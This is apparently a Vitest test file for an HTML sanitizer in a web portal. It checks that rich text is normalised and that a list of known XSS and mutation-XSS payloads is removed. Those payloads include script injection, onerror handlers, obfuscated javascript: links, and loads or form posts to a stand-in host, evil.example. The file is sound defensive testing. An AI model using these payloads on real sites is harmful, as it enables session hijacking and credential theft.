import { describe, expect, it } from 'vitest';
import { safeHref } from '@hearthside/contract/rich-text';
import { cleanRichText } from './clean-rich-text';

const MAX = 10_000_000;
const clean = (html: string) => cleanRichText(html, MAX);

const TAG =
  /<(\/?(p|h[123]|strong|em|u|s|ul|ol|li|blockquote)|hr|br|\/a|ol start="\d+"|a href="([^"<>]*)")>/g;

/** Checks what has to be true of every cleaned text, whatever it was made from. */
function expectSafe(html: string, from: string) {
  const rest = html.replace(TAG, (_tag, _name, _plain, href?: string) => {
    if (href !== undefined) {
      const address = href.replace(/&amp;/g, '&');
      expect(safeHref(address), from).toBe(address);
    }
    return '';
  });
  expect(rest, from).not.toMatch(/[<>]/);
  expect(clean(html), from).toBe(html);
}

describe('rich text', () => {
  it.each([
    ['', ''],
    [' \n\t', ''],
    ['plain', '<p>plain</p>'],
    ['a & b < c "d"', '<p>a &amp; b &lt; c &quot;d&quot;</p>'],
    ['<p>a</p> b <p>c</p>', '<p>a</p><p>b</p><p>c</p>'],
    ['<p>a</p><p></p><p>b</p><p> &nbsp;<br></p><p></p>', '<p>a</p><p></p><p>b</p>'],
    ['<p></p>', ''],
    ['<h1>a</h1><h4>b</h4><h2> </h2>', '<h1>a</h1><h3>b</h3>'],
    ['<b>a</b><i>b</i><del>c</del>', '<p><strong>a</strong><em>b</em><s>c</s></p>'],
    ['<p><u><strong>a</strong></u><strong>b</strong></p>', '<p><strong><u>a</u>b</strong></p>'],
    ['<strong><p>a</p><p>b</p></strong>', '<p><strong>a</strong></p><p><strong>b</strong></p>'],
    ['<div>a</div><div><p>b</p></div>', '<p>a</p><p>b</p>'],
    ['<table><tr><td>a</td><td>b</td></tr></table>', '<p>a</p><p>b</p>'],
    ['<p>a <span style="color:red">  b</span>\n c</p>', '<p>a b c</p>'],
    ['<p> a <br> b <br></p>', '<p>a<br>b</p>'],
    ['<ul><li>a<li>b</ul>', '<ul><li><p>a</p></li><li><p>b</p></li></ul>'],
    ['<ul>a<ul><li>b</li></ul></ul>', '<ul><li><p>a</p><ul><li><p>b</p></li></ul></li></ul>'],
    ['<li>a</li><ul></ul><blockquote> </blockquote>', '<p>a</p>'],
    ['<ol start="07"><li>a</li></ol>', '<ol start="7"><li><p>a</p></li></ol>'],
    ['<ol start="1x"><li>a</li></ol>', '<ol><li><p>a</p></li></ol>'],
    ['<blockquote>a<hr></blockquote>', '<blockquote><p>a</p><hr></blockquote>'],
    ['<p>a<blockquote>b</p>c', '<p>a</p><blockquote><p>b</p><p></p><p>c</p></blockquote>'],
    ['<p>e\u0301\u0000 \ud83d x\u0007</p>', '<p>é \ufffd x</p>'],
  ])('%j becomes %j', (html, kept) => {
    expect(clean(html)).toBe(kept);
    expectSafe(kept, html);
  });

  it('keeps only the address of a link', () => {
    const link = '<a href="example.org?a=1&amp;b=2" target="_blank" rel="x" onclick="y" id=z>l</a>';
    expect(clean(link)).toBe('<p><a href="https://example.org/?a=1&amp;b=2">l</a></p>');
    expect(clean('<a href="/admin">l</a> <a name=x>m</a>')).toBe('<p>l m</p>');
  });

  it('keeps a link to a page of the portal, and none to anything else of its server', () => {
    const page = '<p><a href="/library?tab=forms&amp;folder=2">l</a></p>';
    expect(clean(page)).toBe(page);
    const others = ['/&#47;evil.example', '/api/files/1', '/help/%2e%2e/admin', '/\\evil.example'];
    for (const other of [...others, '/he&#10;lp/%0a', 'help', '../help', '/help&#92;..&#92;api'])
      expect(clean(`<a href="${other}">l</a>`), other).toBe('<p>l</p>');
  });

  it('is not nested deeper than the limit', () => {
    const deep = `${'<blockquote>'.repeat(50)}a${'</blockquote>'.repeat(50)}`;
    expect(clean(deep).match(/<blockquote>/g)).toHaveLength(8);
    expect(clean(`${'<ul><li>'.repeat(20)}a`).match(/<ul>/g)).toHaveLength(4);
  });

  it('is refused with its field’s name if it is too long, and never cut off', () => {
    expect(cleanRichText('<b>aaa</b>', 27)).toBe('<p><strong>aaa</strong></p>');
    for (const html of ['<b>aaaa</b>', '<'.repeat(1_000_000)])
      expect(() => cleanRichText(html, 27, 'answer')).toThrow(
        expect.objectContaining({ status: 400, details: { answer: 'At most 27 characters' } }),
      );
  });
});

/** Attacks that once got through some sanitizer. */
const HOSTILE = [
  '<script>alert(1)</script>',
  '<scr<script>ipt>alert(1)</scr</script>ipt>',
  '<SCRIPT SRC=//evil.example/x.js></SCRIPT>',
  '<script>/*<p>*/alert(1)<!--</script>',
  '<script/x>alert(1)</script/y><script',
  '<img src=x onerror=alert(1)>',
  '<p onclick="alert(1)" onmouseover=alert(1) style="background:url(javascript:alert(1))">x</p>',
  '<p/onclick=alert(1)//>x</p>',
  '<a href="java\nscript:alert(1)">x</a>',
  '<a href="&#106;avascript&colon;alert(1)">x</a>',
  '<a href="&#x6A&#x61vascript:alert(1)">x</a>',
  '<a href=" \u0001javascript:alert(1)">x</a>',
  '<a href="javascript&#0;:alert(1)">x</a>',
  '<a href="vbscript:msgbox(1)">x</a><a href="data:text/html;base64,PHNjcmlwdD4=">y</a>',
  '<a href="https://a.b/" href="javascript:alert(1)">x</a>',
  '<a xlink:href="javascript:alert(1)" href=x>x</a>',
  '<a href="https://example.org/&quot;onclick=&quot;alert(1)">x</a>',
  '<a href=\'https://example.org/"onclick="alert(1)\'>x</a>',
  '<style>@import "//evil.example";</style><link rel=stylesheet href=//evil.example>',
  '<style><img src=x onerror=alert(1)></style>',
  '<style>*{}</style/><p>a',
  '<svg onload=alert(1)><a xlink:href="javascript:alert(1)"><text>x</text></a></svg>',
  '<svg><style><img/src=x onerror=alert(1)// </style></svg>',
  '<svg></p><style><a id="</style><img src=1 onerror=alert(1)>">',
  '<svg><foreignObject><p>in</p><iframe srcdoc="x"></iframe></foreignObject></svg>',
  '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=alert(1)&gt;">',
  '<math><mi//xlink:href="data:x,<script>alert(1)</script>">',
  '<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>',
  '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
  '<textarea><p title="</textarea><img src=x onerror=alert(1)>">',
  '<title><p title="</title><img src=x onerror=alert(1)>">',
  '<xmp><p title="</xmp><img src=x onerror=alert(1)>">',
  '<noembed><p title="</noembed><img src=x onerror=alert(1)>">',
  '<plaintext><img src=x onerror=alert(1)>',
  '<template><script>alert(1)</script></template>',
  '<select><template><style><!--</style><a rel="--></style></template></select><img src onerror=alert(1)>">',
  '<form action="https://evil.example"><input name=password><button formaction="javascript:alert(1)">x',
  '<iframe src="https://evil.example"></iframe><iframe srcdoc="<script>alert(1)</script>">',
  '<object data="x.swf"><embed src="x.swf"></object><applet code=x>',
  '<base href="https://evil.example/"><meta http-equiv=refresh content="0;url=//evil.example">',
  '<video src=x onerror=alert(1)><source onerror=alert(1)></video><audio src=x autoplay>',
  '<input autofocus onfocus=alert(1)><details open ontoggle=alert(1)><summary>x',
  '<!--><img src=x onerror=alert(1)>-->',
  '<!--[if IE]><script>alert(1)</script><![endif]--><!-- --!><img src=x onerror=alert(1)>',
  '<![CDATA[<img src=x onerror=alert(1)>]]><?xml version="1.0"?><!DOCTYPE x [<!ENTITY y "z">]>',
  '&lt;script&gt;alert(1)&lt;/script&gt; &amp;lt;img src=x onerror=alert(1)&amp;gt;',
  '<p title="><img src=x onerror=alert(1)>">x</p><p title=\'"><script>\'>',
  '<<p>x</p><p<p>y</p></p</p>',
  '<p><a href="https://a.b/"><a href="https://c.d/">nested</a></a></p>',
  '<x:script xmlns:x="http://www.w3.org/1999/xhtml">alert(1)</x:script>',
  '<custom-element is=script>x</custom-element><slot name=x>',
  '\ufeff<\u0000script>alert(1)</script><\u200bscript>alert(1)</script>＜script＞',
  '<p>\u202etxet\u202c <p \ud83d=\ud83d>&#xd83d;&#0;&#x110000;',
  '<strong><em><u><s><h1><h2><blockquote><ol><li><ul><p>x</strong></em></u></s></h1>y',
];

describe('hostile HTML', () => {
  it.each(HOSTILE)('%j', (html) => {
    const kept = clean(html);
    expectSafe(kept, html);
    expect(kept.replace(/href="[^"]*"/g, '')).not.toMatch(/<[^>]*(alert|evil|javascript|on\w+=)/i);
  });

  it('keeps nothing of the content of a script or a style', () => {
    const html = '<p>a<script>one</script><style>two</style><svg>three</svg>b</p>';
    expect(clean(html)).toBe('<p>ab</p>');
  });

  it('comes out safe in any combination, and cleaning it again changes nothing', () => {
    const pieces = HOSTILE.flatMap((html) => html.split(/(?<=>)|(?=<)/));
    pieces.push(
      '<p>',
      '</p>',
      '<ul>',
      '<li>',
      '</ul>',
      '<ol start=3>',
      '</li>',
      '<blockquote>',
      'a',
    );
    pieces.push(
      '</blockquote>',
      '<b>',
      '</b>',
      '<i>',
      '</i>',
      '<br>',
      '<hr>',
      ' ',
      '&nbsp;',
      'e',
      '\u0301',
    );
    pieces.push(
      '<a href="https://a.b/c?d&amp;e">',
      '</a>',
      '<h2>',
      '</h2>',
      '<div>',
      '</div>',
      '\n',
      '&lt;',
    );
    let seed = 11;
    const next = (below: number) => {
      seed = (seed * 1_103_515_245 + 12_345) % 2_147_483_648;
      return Math.floor(seed / 65_536) % below;
    };
    for (let n = 0; n < 3000; n += 1) {
      const html = Array.from({ length: next(30) }, () => pieces[next(pieces.length)]).join('');
      expectSafe(clean(html), html);
    }
  });

  it('takes time in proportion to its length', () => {
    const start = Date.now();
    const whole = [
      '<',
      '<p',
      '<p>',
      '<b>',
      '</p>',
      '<ul><li>',
      '<blockquote>',
      '&',
      '&lt;',
      '<!--',
      '<a href=',
      ' \n',
      '<br>',
      '<div>',
      '<svg>',
      '<b><p>',
      '\u0301',
      '<a href="https://a.b/">x',
      '"',
      '<i></i>',
    ];
    let refused = 0;
    for (const piece of whole)
      try {
        cleanRichText(piece.repeat(Math.ceil(200_000 / piece.length)), 20_000);
      } catch {
        refused += 1;
      }
    for (const piece of whole) clean(piece.repeat(1000));
    expect(refused).toBeGreaterThan(10);
    expect(Date.now() - start).toBeLessThan(4500);
  });
});
